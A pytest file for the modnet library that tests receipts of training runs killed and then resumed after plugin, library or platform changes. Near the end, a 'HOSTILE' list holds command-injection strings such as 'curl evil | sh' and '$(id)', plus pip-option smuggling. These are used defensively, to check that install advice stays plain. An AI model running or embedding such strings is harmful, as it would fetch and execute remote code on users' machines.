"""Receipts of runs that were killed, and resumed in other surroundings."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import attrs
import numpy as np
import pytest
from changing_plugins import DIARY, PLUGIN, install, install_drifting, modnet, run_python, train

from modnet.runs.missing_plugins import _advise_on
from modnet.runs.receipt import Receipt
from modnet.runs.surroundings import Origin, Segment


def starts(folder: Path) -> list[int]:
    return [segment.start for segment in Receipt.read(folder).segments]


def code(segment: Segment) -> str:
    return next(origin.code_sha256 for origin in segment.plugins if origin.kind == "gradient")


@pytest.fixture(scope="module")
def _killed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("killed")
    install_drifting(place)
    train(place, killed_at=20)
    return place


@pytest.fixture
def killed(_killed: Path, tmp_path: Path) -> Path:
    """Return a folder with a run that was killed after 20 iterations."""
    return Path(shutil.copytree(_killed, tmp_path / "place"))


def test_a_run_resumed_as_it_began_has_one_segment(killed: Path) -> None:
    began = Receipt.read(killed / "run")
    assert modnet(killed, "resume", "run").returncode == 0
    ended = Receipt.read(killed / "run")
    assert ended.segments == began.segments
    assert ended.results is not None
    assert modnet(killed, "verify", "run").returncode == 0


@pytest.mark.check
def test_a_plugin_that_was_mended_in_between_twice(killed: Path) -> None:
    first = code(Receipt.read(killed / "run").latest)
    install_drifting(killed, factor=2)
    modnet(killed, "resume", "run", "--accept", KILLED_AT="40")
    assert starts(killed / "run") == [0, 20]
    install_drifting(killed, factor=3)
    assert modnet(killed, "resume", "run", "--accept").returncode == 0
    assert starts(killed / "run") == [0, 20, 40]
    codes = [code(segment) for segment in Receipt.read(killed / "run").segments]
    assert codes[0] == first
    assert len(set(codes)) == 3
    install_drifting(killed)
    done = modnet(killed, "verify", "run")
    assert done.returncode == 1
    assert "plugin    from iteration 21 to 40, modnet-drifting, the code of modnet_drifting: 1.0 (" in done.stdout
    assert "          from iteration 41 on, modnet-drifting, the code of modnet_drifting: 1.0 (" in done.stdout
    assert "not trained again; the first part that differs: plugin from iteration 21 to 40, " in done.stdout
    assert done.stdout.endswith("; train it by what is here now with --accept\n")
    done = modnet(killed, "verify", "run", "--accept")
    assert done.returncode == 1
    assert "differs from iteration 22 on (loss " in done.stdout


def test_a_resume_by_other_code_stops_and_each_way_out_works(killed: Path) -> None:
    install_drifting(killed, factor=2)
    before = {path: path.read_bytes() for path in (killed / "run").glob("[!.]*")}
    done = modnet(killed, "resume", "run")
    assert done.returncode == 1
    what, ways = done.stderr.splitlines()[-2:]
    changed = "plugin modnet-drifting, the code of modnet_drifting: 1.0 ("
    assert what.startswith(f"modnet: run: changed since its 20 iterations were made: {changed}")
    assert ways.startswith("continue with --accept, which its receipt records, or train it again with modnet train ")
    assert {path: path.read_bytes() for path in (killed / "run").glob("[!.]*")} == before
    assert modnet(killed, *ways.split(" with modnet ")[1].split()).returncode == 0
    assert modnet(killed, "resume", "run", "--accept").returncode == 0
    assert starts(killed / "run") == [0, 20]


@pytest.mark.check
def test_what_was_accepted_once_is_accepted_until_it_changes(killed: Path) -> None:
    install_drifting(killed, factor=2)
    modnet(killed, "resume", "run", "--accept", KILLED_AT="30")
    modnet(killed, "resume", "run", KILLED_AT="40")
    assert starts(killed / "run") == [0, 20]
    install_drifting(killed)
    assert modnet(killed, "resume", "run").returncode == 1
    assert modnet(killed, "resume", "run", "--accept").returncode == 0
    assert starts(killed / "run") == [0, 20, 40]


def alter(run: Path, section: str, **entries: str) -> None:
    """Have a receipt say that its run was made elsewhere."""
    receipt = Receipt.read(run)
    there = attrs.evolve(receipt.latest, **{section: {**getattr(receipt.latest, section), **entries}})
    attrs.evolve(receipt, segments=(there,)).write(run)


def test_another_library_stops_and_another_machine_is_recorded(killed: Path) -> None:
    alter(killed / "run", "libraries", numpy="1.0")
    done = modnet(killed, "resume", "run")
    assert (done.returncode, "iterations were made: library numpy: 1.0 then, " in done.stderr) == (1, True)
    alter(killed / "run", "libraries", numpy=np.__version__)
    alter(killed / "run", "platform", CPU="Z80")
    done = modnet(killed, "resume", "run")
    assert (done.returncode, "so the last bits may differ: platform CPU: Z80 then" in done.stderr) == (0, True)
    assert starts(killed / "run") == [0, 20]
    done = modnet(killed, "verify", "run")
    assert (done.returncode, "platform  until iteration 20, CPU: Z80 then, " in done.stdout) == (0, True), done.stdout


@pytest.mark.check
def test_a_segment_of_no_iteration_does_not_stay(killed: Path) -> None:
    began = Receipt.read(killed / "run")
    install_drifting(killed, factor=2)
    modnet(killed, "resume", "run", "--accept", KILLED_AT="20")  # it saves a checkpoint, of no iteration of its own
    assert starts(killed / "run") == [0, 20]  # on disk before that
    install_drifting(killed)
    assert modnet(killed, "resume", "run").returncode == 0
    assert Receipt.read(killed / "run").segments == began.segments
    assert modnet(killed, "verify", "run").returncode == 0


def test_a_run_that_fails_at_once_when_it_is_resumed_leaves_no_segment(killed: Path) -> None:
    source = PLUGIN.format(factor=1).replace("os.kill(os.getpid(), signal.SIGKILL)", "raise modnet.ModnetError('full')")
    install(killed / "site", "modnet_drifting", source)
    assert modnet(killed, "resume", "run", "--accept", KILLED_AT="20").returncode == 1
    receipt = Receipt.read(killed / "run")
    assert (starts(killed / "run"), receipt.results and receipt.results.iterations) == ([0], 20)


@pytest.mark.check
def test_where_the_newest_checkpoint_is_damaged_segments_after_the_one_before_do_not_stay(killed: Path) -> None:
    install_drifting(killed, factor=2)
    modnet(killed, "resume", "run", "--accept", KILLED_AT="21")
    assert starts(killed / "run") == [0, 20]
    install_drifting(killed)
    (killed / "run/checkpoint.npz").write_bytes(b"")  # of iteration 21; the one before is of 20
    assert modnet(killed, "resume", "run").returncode == 0
    assert starts(killed / "run") == [0]
    assert modnet(killed, "verify", "run").returncode == 0


def test_a_finished_run_that_is_lengthened_by_other_code(tmp_path: Path) -> None:
    install_drifting(tmp_path)
    train(tmp_path, killed_at=-1)
    install_drifting(tmp_path, factor=2)
    assert modnet(tmp_path, "resume", "run", "--iterations", "80").returncode == 1
    assert starts(tmp_path / "run") == [0]
    assert modnet(tmp_path, "resume", "run", "--iterations", "80", "--accept").returncode == 0
    assert starts(tmp_path / "run") == [0, 59]  # the loss after the last step was not known to be finite


@pytest.mark.check
def test_before_any_iteration_all_of_the_run_is_made_anew(tmp_path: Path) -> None:
    install_drifting(tmp_path)
    train(tmp_path, killed_at=0)
    install_drifting(tmp_path, factor=2)
    assert modnet(tmp_path, "resume", "run").returncode == 0
    assert starts(tmp_path / "run") == [0]
    assert modnet(tmp_path, "verify", "run").returncode == 0


@pytest.mark.check
def test_plugins_that_follow_the_run_are_observers_in_the_order_of_their_calls(killed: Path) -> None:
    install(killed / "site", "modnet_a_diary", DIARY.format(word="a"), "1.5")
    install(killed / "site", "modnet_b_diary", DIARY.format(word="b"))
    late = DIARY.format(word="c").replace("@modnet.hookimpl", "@modnet.hookimpl(tryfirst=True)")
    install(killed / "site", "modnet_c_diary", late)
    train(killed, -1, "whole")
    observers = Receipt.read(killed / "whole").latest.observers
    assert "".join(origin.package[7] for origin in observers) == (killed / "diary.txt").read_text()
    assert len(observers) == 3
    assert next(origin for origin in observers if origin.version == "1.5").distribution == "modnet-a-diary"
    assert all(len(origin.code_sha256) == 64 for origin in observers)
    assert modnet(killed, "resume", "run").returncode == 0
    assert [len(segment.observers) for segment in Receipt.read(killed / "run").segments] == [0, 3]


@pytest.mark.check
def test_another_observer_is_mentioned_and_makes_no_other_run(killed: Path) -> None:
    install(killed / "site", "modnet_a_diary", DIARY.format(word="a"))
    train(killed, -1, "whole")
    install(killed / "site", "modnet_a_diary", DIARY.format(word="b"))
    done = modnet(killed, "verify", "whole")
    assert done.returncode == 0, done.stdout
    assert "observer  modnet-a-diary:plugin: 1.0 (" in done.stdout


def test_code_that_changes_on_the_disk_after_it_was_loaded(tmp_path: Path) -> None:
    """Runs of one process are made by the code that was loaded first, whatever the files say then."""
    install_drifting(tmp_path)
    script = """
from pathlib import Path
import modnet
from modnet.compose.experiment import create_experiment, read_data
from modnet.runs.recorder import create_run, train_run

def run(out):
    data, experiment = read_data(create_experiment({"gradient": "drifting", "training": {"iterations": 2}}))
    with create_run(Path(out), experiment, data, compact=True) as recorder:
        train_run(experiment, data, recorder)

run("a")
path = Path("site/modnet_drifting.py")
path.write_text(path.read_text() + "# mended")
run("b")
"""
    run_python(script, tmp_path).check_returncode()
    assert Receipt.read(tmp_path / "a").segments == Receipt.read(tmp_path / "b").segments
    assert "plugin    modnet-drifting" in modnet(tmp_path, "verify", "b").stdout


class TestModules:
    """Modules that are not installed: they are known with what they import from their folder."""

    @pytest.fixture
    def beside(self, tmp_path: Path) -> Path:
        """Return a folder with a module, its helper, and a run that was killed after 20 iterations."""
        source = PLUGIN.format(factor="helpers.FACTOR").replace("import modnet", "import modnet, helpers", 1)
        (tmp_path / "mine.py").write_text(source)
        (tmp_path / "helpers.py").write_text("FACTOR = 1\n")
        options = ("--gradient", "drifting", "--hidden", "3", "--iterations", "40", "-p", "mine", "--out", "run")
        modnet(tmp_path, "train", *options, KILLED_AT="20")
        return tmp_path

    def test_a_helper_that_was_mended_in_between(self, beside: Path) -> None:
        (beside / "helpers.py").write_text("FACTOR = 2\n")
        done = modnet(beside, "resume", "run", "-p", "mine")
        assert (done.returncode, ": plugin mine, the code of mine: " in done.stderr) == (1, True), done.stderr
        (beside / "helpers.py").write_text("FACTOR = 1\n")
        (beside / "unrelated.py").write_text("FACTOR = 2\n")
        done = modnet(beside, "resume", "run", "-p", "mine")
        assert done.returncode == 0, done.stderr

    def test_the_same_module_imported_by_python_is_the_same_code(self, beside: Path) -> None:
        script = """
import mine
from modnet.compose.experiment import create_experiment
from modnet.compose.plugins import load_plugins
from modnet.runs.surroundings import Segment
load_plugins(modules=["mine"])
segment = Segment.create(create_experiment({"gradient": "drifting"}))
print(next(origin.code_sha256 for origin in segment.plugins if origin.kind == "gradient"))
"""
        done = run_python(script, beside)
        assert done.stdout.strip() == code(Receipt.read(beside / "run").latest), done.stderr

    def test_a_class_that_was_mended_in_a_notebook(self, tmp_path: Path) -> None:
        script = '''
import modnet
quick = {"gradient": "backpropagation", "network": {"activation": "scaled"}, "training": {"iterations": 5}}

def define(factor):  # as a cell does
    exec(f"""
class Scaled(modnet.Activation):
    def __call__(self, a, axis=-1):
        return {factor} * a
""", globals())
    return modnet.register(Scaled)

def compare(seeds):
    modnet.compare(quick, {"hidden_size": [3, 4]}, seeds=seeds, out="runs")

undo = define(1)
compare(2)
undo()
undo = define(1)
compare(3)
undo()
define(2)
try:
    compare(4)
except modnet.DataError as error:
    print(error)
'''
        done = run_python(script, tmp_path)
        assert "the code of __main__: " in done.stdout, done.stderr
        assert " in 6 runs (" in done.stdout


HOSTILE = [
    ("x; curl evil | sh", "1.0"),
    ("x", "1.0; curl evil | sh"),
    ("x", "$(id)"),
    ("x && id", "1.0"),
    ("-r evil.txt", "1.0"),
    ("--index-url=evil", "1.0"),
    ("x @ https", "1.0"),
    ("x\n", "1.0"),
    ("\u017f", "1.0"),
    ("x", "\uff11.0"),
    ("x\x1b[2J", "1.0"),
    ("x" * 200, "1.0"),
    ("x.", "1.0"),
    ("x", "1.0 --pre"),
    ("x; id", ""),
    ("x -p y", ""),
    ("x\n", ""),
]


@pytest.mark.parametrize(("distribution", "version"), HOSTILE)
def test_a_receipt_gives_no_advice_but_plain_names_and_versions(distribution: str, version: str) -> None:
    advice = _advise_on([Origin("activation", "gone", distribution, version, "x", "")])
    assert advice.startswith("the activation 'gone' comes from ")
    assert advice.endswith((", which is not installed", ", a module that was not installed as a plugin"))
    assert advice.isprintable()
    assert len(advice) < 300


@pytest.mark.parametrize("version", ["1.0", "1.0rc1", "2!1.0.post1", "1.0+cu12"])
def test_plain_names_and_versions_are_advised(version: str) -> None:
    advice = _advise_on([Origin("activation", "gone", "Modnet_x.y-z", version, "x", "")])
    assert advice.endswith(f", which is not installed: pip install Modnet_x.y-z=={version}")
    advice = _advise_on([Origin("activation", "gone", "mine.parts", "", "mine", "")])
    assert advice.endswith(": load it with -p mine.parts")
    advice = _advise_on([Origin("activation", "gone", "session", "", "mine", "")])
    assert advice.endswith("a program that registered it: do so before, by modnet.register, or make a plugin of it")


@pytest.mark.parametrize(
    ("version", "advice"), [(1, "train it again, modnet train run/experiment.toml"), (4, "install")]
)
def test_a_receipt_of_another_format_is_refused(killed: Path, version: int, advice: str) -> None:
    (killed / "run/receipt.json").write_text(json.dumps({"format": version}))
    for command in ("resume", "verify"):
        done = modnet(killed, command, "run")
        assert f"run/receipt.json: of format {version}, this modnet reads 3: {advice}" in done.stderr
        assert (done.returncode, done.stderr.count("\n")) == (1, 1)
